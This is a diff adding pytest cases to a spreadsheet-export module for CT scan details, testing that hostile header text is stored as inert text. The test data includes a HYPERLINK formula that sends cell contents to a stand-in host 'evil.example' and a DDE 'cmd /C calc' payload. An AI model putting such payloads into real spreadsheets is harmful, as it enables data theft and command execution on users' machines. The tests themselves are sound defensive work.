@@ -8,7 +8,7 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from release.spreadsheets import details_xlsx_bytes
+from release.spreadsheets import build_details_xlsx, details_xlsx_bytes, read_details_xlsx
 
 COLUMNS = (
     ("Case", "str"),
@@ -101,3 +101,46 @@ def test_bad_value_names_row_and_column() -> None:
         details_xlsx_bytes([("Rows", "int")], [{"Rows": 12.5}])
     with pytest.raises(ValueError, match=r"row 3, column 'AcquisitionDate'.*not a date"):
         details_xlsx_bytes([("AcquisitionDate", "date")], [{}, {"AcquisitionDate": "yesterday"}])
+
+
+# ---------------------------------------------------------------------------
+# header text is data, never code, and never crashes the packaging
+
+HOSTILE = {
+    "\x01": ("SIEMENS\x01", "SIEMENS", 1),
+    "\x1b": ("\x1b[31mGE MEDICAL\x1b[0m", "[31mGE MEDICAL[0m", 2),
+    "formula": ('=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+                '=HYPERLINK("http://evil.example/?leak="&A1,"click")', 0),
+    "plus": ("+1+cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", 0),
+    "minus": ("-2+3", "-2+3", 0),
+    "at": ("@SUM(A1:A9)", "@SUM(A1:A9)", 0),
+    "error-code": ("#N/A", "#N/A", 0),
+    "surrogate": ("Philips\ud800", "Philips", 1),
+}
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+def test_text_cells_are_text_and_unwritable_characters_are_removed_and_counted(case: str) -> None:
+    raw, stored, removed = HOSTILE[case]
+    columns = (("Case", "str"), ("Manufacturer", "str"), ("KVP", "float"))
+    book = build_details_xlsx(columns, [{"Case": "0001", "Manufacturer": raw, "KVP": 120.0}], title="CT-details")
+    assert book.removed_characters == removed
+    wb = openpyxl.load_workbook(io.BytesIO(book.data))  # formulas as written, not cached values
+    cell = wb.worksheets[0]["B2"]
+    assert cell.value == stored
+    assert cell.data_type == "s"
+    assert cell.quotePrefix is stored.startswith(("=", "+", "-", "@"))
+    with zipfile.ZipFile(io.BytesIO(book.data)) as xlsx:
+        sheet = xlsx.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet  # no formula element anywhere
+    assert 't="inlineStr"' in sheet.split('r="B2"')[1][:40]
+
+
+def test_one_hostile_row_among_good_ones_keeps_the_others_exact() -> None:
+    rows = [dict(ROWS[0]), {**ROWS[1], "Kernel": "=1+1\x07"}]
+    book = build_details_xlsx(COLUMNS, rows)
+    header, body = read_details_xlsx(io.BytesIO(book.data))
+    assert header == [name for name, _ in COLUMNS]
+    assert body[0][6] == "B30f" and body[1][6] == "=1+1"  # read with data_only: a formula would be None
+    assert book.removed_characters == 1
+    assert details_xlsx_bytes(COLUMNS, rows) == book.data
